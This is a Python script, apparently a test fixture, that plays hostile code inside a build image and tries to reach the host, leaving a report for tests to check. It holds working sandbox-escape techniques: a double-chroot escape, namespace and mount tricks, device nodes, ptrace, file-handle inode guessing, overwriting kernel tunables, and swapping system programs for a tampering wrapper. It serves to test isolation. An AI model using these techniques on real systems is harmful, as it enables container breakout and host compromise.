"""A stranger's code in an image: tries to reach the host from everything that it can see and write.

    attack.py <hook>     the place that it was started from: a scriptlet, a program, a script

Its targets stand in targets.json beside it. It leaves a report in /var/lib/hostile of the image, from which the tests
see that it ran and how far it came. Nothing here may stop the image: then later hooks would not be tried.
"""

import ctypes
import itertools
import json
import os
import signal
import socket
import struct
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "targets.json"), encoding="utf-8") as file:
    TARGETS = json.load(file)
CANARY, PLANTED, TOKEN = TARGETS["canary"], TARGETS["planted"], TARGETS["token"]
HOOK = sys.argv[1]
REPORTS = "/var/lib/hostile"

libc = ctypes.CDLL(None, use_errno=True)
MS_BIND, MS_REC = 4096, 16384
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
# What the steps after this one open, write or run by name, in today's sandbox or in an earlier one.
NAMES = (
    *("mke2fs.conf", "filesystem", "disk.raw", "raw", "image.raw", "overlay.qcow2", "changed.raw", "commands"),
    *("root", "part-1", "part-2", "trees", "boot", "request.json", "finish.py", "tree.py", "answer", "log"),
    *("upper", "work", "mnt", "filter", "named", "files", "kernel", "output", "table"),
)
PROGRAMS = ("python3", "python3.11", "rpm", "chroot", "mke2fs", "mcopy", "debugfs", "tar", "sh", "ldconfig")
done = {"hook": HOOK, "reached": [], "planted": 0}


def attempt(step, *arguments):
    """Whether a step worked. What it was refused for does not matter here."""
    try:
        return step(*arguments)
    except BaseException:  # noqa: BLE001: the attack goes on
        return None


def call(name, *arguments):
    """A function of the C library; raises what it was refused for."""
    if getattr(libc, name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), name)
    return True


def in_child(step, *arguments):
    """Runs a step that may lose this process its root, its folder or its life."""
    pid = os.fork()
    if pid == 0:
        signal.alarm(20)
        attempt(step, *arguments)
        os._exit(0)
    os.waitpid(pid, 0)


def views():
    """Folders from which more than our own root may be seen."""
    yield "/"
    for pid in [name for name in attempt(os.listdir, "/proc") or [] if name.isdigit()]:
        yield f"/proc/{pid}/root/"
        yield f"/proc/{pid}/cwd/"
        for number in attempt(os.listdir, f"/proc/{pid}/fd") or []:
            yield f"/proc/{pid}/fd/{number}/"
    yield "/oldroot/"
    yield "/newroot/"
    yield "/.." * 8 + "/"


def folders(view):
    """Folders in a view where a later step may come by: its top, what is mounted, and what lies a little deeper."""
    yield view
    mounts = attempt(lambda: open(f"{view}proc/self/mountinfo", encoding="utf-8").read()) or ""
    for line in mounts.splitlines():
        yield view + line.split()[4].lstrip("/") + "/"
    for name in attempt(os.listdir, view) or []:
        if name in ("proc", "sys", "dev") or os.path.islink(view + name):
            continue
        yield f"{view}{name}/"
        if name in ("azl", "work", "tmp", "trees"):
            for inner in attempt(os.listdir, view + name) or []:
                yield f"{view}{name}/{inner}/"


def is_image(view):
    return attempt(os.path.samefile, view, "/") or attempt(os.path.exists, f"{view}var/lib/hostile")


def plant(view):
    number = itertools.count()
    for folder in folders(view):
        if not attempt(os.path.isdir, folder):
            continue
        attempt(steal, folder)
        for name in NAMES:
            place = folder + name
            if is_image(folder) and attempt(os.path.lexists, place):
                continue
            victim = os.path.join(PLANTED, f"victim-{next(number) % 8}")
            for target in (victim, f"/oldroot{victim}"):
                if attempt(os.path.isfile, place):
                    attempt(os.rename, place, f"{place}.old")
                if not attempt(os.path.lexists, place) and attempt(os.symlink, target, place) is None:
                    done["planted"] += bool(attempt(os.path.islink, place))
                    break
    if not is_image(view):
        for folder, name in itertools.product(("usr/bin/", "usr/sbin/", "bin/", "sbin/"), PROGRAMS):
            attempt(replace, view + folder + name)


def steal(folder):
    """Reads or links the canary, as it is seen from here."""
    for path in (CANARY, folder + CANARY.lstrip("/"), f"/oldroot{CANARY}"):
        text = attempt(lambda path=path: open(path, "rb").read())
        if text:
            done["stolen"] = path
            attempt(leave, f"{REPORTS}/stolen", text)
        attempt(os.link, path, f"{folder}hard-{TOKEN}")
    attempt(leave, f"{folder}new-{TOKEN}", b"from " + HOOK.encode())
    for file in (f"victim-{number}" for number in range(8)):
        attempt(overwrite, os.path.join(folder + PLANTED.lstrip("/"), file))


def leave(path, content):
    with open(path, "wb") as file:
        file.write(content)


def overwrite(path):
    with open(path, "r+b") as file:
        file.write(b"overwritten by " + HOOK.encode())


FAKE = f"""#!/bin/sh
true="$0.true"
[ -x "$true" ] || exit 127
"$true" "$@" > /run/answer-$$; code=$?
case "$*" in
  *finish.py*)
    for top in /work /azl/trees; do
      ln -s {CANARY} $top/part-1/canary; ln -s {CANARY} $top/root/etc/canary-link
    done 2>/dev/null
    sed 's/"parts": {{"esp": \\[/&{{"path": "canary", "folder": false}}, /' /run/answer-$$ ;;
  *) cat /run/answer-$$ ;;
esac
exit $code
"""


def replace(place):
    """Puts a program of ours in place of one that a helper of the next step may run."""
    if not os.path.isfile(place) or os.path.exists(f"{place}.true"):
        return
    os.rename(place, f"{place}.true")
    leave(place, FAKE.encode())
    os.chmod(place, 0o755)
    done["replaced"] = place


def escape():
    """The old way out of a chroot: a second one, while a descriptor or the working folder stays outside of it."""
    top = f"/azl-{TOKEN}"
    attempt(os.mkdir, top)
    outside = os.open("/", os.O_RDONLY)
    os.chroot(top)
    os.fchdir(outside)
    for _ in range(64):
        attempt(os.chdir, "..")
    os.chroot(".")
    plant("/")


def enter(view):
    """Takes another process's root as our own, and looks around from there."""
    os.chdir(view)
    os.chroot(".")
    plant("/")


def mounts():
    for source, target in (("/proc/1/root", "/mnt"), (PLANTED, "/mnt"), ("/", "/mnt"), ("/dev", "/mnt")):
        flags = ctypes.c_ulong(MS_BIND | MS_REC)
        if attempt(call, "mount", source.encode(), target.encode(), None, flags, None):
            done["mounted"] = source
            plant("/mnt/")
    for kind in ("proc", "sysfs", "devtmpfs", "tmpfs", "overlay", "ext4"):
        if attempt(call, "mount", b"none", b"/mnt", kind.encode(), ctypes.c_ulong(0), None):
            done["mounted"] = kind
            plant("/mnt/")
    for place in ("/proc", "/dev", "/run", "/"):
        attempt(call, "umount2", place.encode(), 2)
    attempt(call, "unshare", 0x10000000)
    attempt(call, "unshare", 0x00020000)
    attempt(call, "setns", attempt(os.open, "/proc/1/ns/mnt", os.O_RDONLY) or 0, 0)


def devices():
    for major, minor in ((8, 0), (8, 1), (254, 0), (253, 0), (252, 0), (259, 0), (1, 1)):
        node = f"/var/lib/hostile/node-{major}-{minor}"
        if attempt(os.mknod, node, 0o600 | 0o060000, os.makedev(major, minor)) is None and os.path.exists(node):
            done["node"] = node
            attempt(lambda node=node: leave(f"{REPORTS}/stolen", open(node, "rb").read(1 << 20)))
    for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/vda", "/dev/sda", "/dev/kvm"):
        if attempt(os.open, path, os.O_RDWR) is not None:
            done["device"] = path
    for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe"):
        attempt(overwrite, path)


def handles():
    """Files of the disk by number: the root of a disk has a low inode number."""
    for place in ("/", "/azl", "/proc/1/root"):
        folder = attempt(os.open, place, os.O_RDONLY)
        for inode in (2, 32, 64, 128):
            handle = struct.pack("IiII", 8, 1, inode, 0)
            found = libc.open_by_handle_at(folder or 0, handle, os.O_RDONLY)
            if found >= 0:
                done["handle"] = inode
                plant(f"/proc/self/fd/{found}/")


def processes():
    """Whoever runs beside us: its memory, its files."""
    own = os.getpid()
    for pid in [int(name) for name in attempt(os.listdir, "/proc") or [] if name.isdigit()]:
        if pid in (own, 1):
            continue
        if attempt(call, "ptrace", PTRACE_ATTACH, pid, None, None):
            done["reached"].append(f"process {pid}")
            attempt(os.waitpid, pid, 0)
            attempt(call, "ptrace", PTRACE_DETACH, pid, None, None)
        for number in attempt(os.listdir, f"/proc/{pid}/fd") or []:
            path = f"/proc/{pid}/fd/{number}"
            target = attempt(os.readlink, path) or ""
            if target.startswith("/") and not target.startswith(("/dev", "/proc")):
                attempt(lambda path=path: leave(f"{REPORTS}/stolen-fd", open(path, "rb").read(1 << 16)))


def sockets():
    for family in (socket.AF_INET, getattr(socket, "AF_VSOCK", 40), socket.AF_PACKET):
        attempt(lambda family=family: socket.socket(family, socket.SOCK_STREAM).connect((2, 22)))
    for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket"):
        if attempt(lambda path=path: socket.socket(socket.AF_UNIX).connect(path)) is None:
            continue
        done["socket"] = path


def tricks():
    """Odd files in places of the image that later steps read or write."""
    folder = f"{REPORTS}/{HOOK}"
    os.makedirs(folder, exist_ok=True)
    attempt(os.mkfifo, f"{folder}/fifo")
    attempt(os.symlink, CANARY, f"{folder}/canary")
    attempt(os.symlink, "/proc/1/root" + CANARY, f"{folder}/canary-of-1")
    attempt(os.link, "/etc/passwd", f"{folder}/hard")
    for number in range(3, 64):
        attempt(lambda number=number: os.write(number, b'{"problems": []}'))
    for name in ("-d", "--help", "a\nb", "?offset=0", "%n%n", "x" * 255, "\x1b]0;x\x07", "\udcff\udcfe"):
        attempt(leave, os.fsencode(f"{folder}/{name}"), b"odd")


def main():
    os.makedirs(REPORTS, exist_ok=True)
    seen = set()
    for view in views():
        found = attempt(os.stat, view)
        if found is None or (found.st_dev, found.st_ino) in seen:
            continue
        seen.add((found.st_dev, found.st_ino))
        done["reached"].append(view)
        attempt(plant, view)
        in_child(enter, view)
    for step in (escape, mounts, handles):
        in_child(step)
    for step in (devices, processes, sockets, tricks):
        attempt(step)
    leave(f"{REPORTS}/{HOOK}.json", json.dumps(done).encode())


attempt(main)
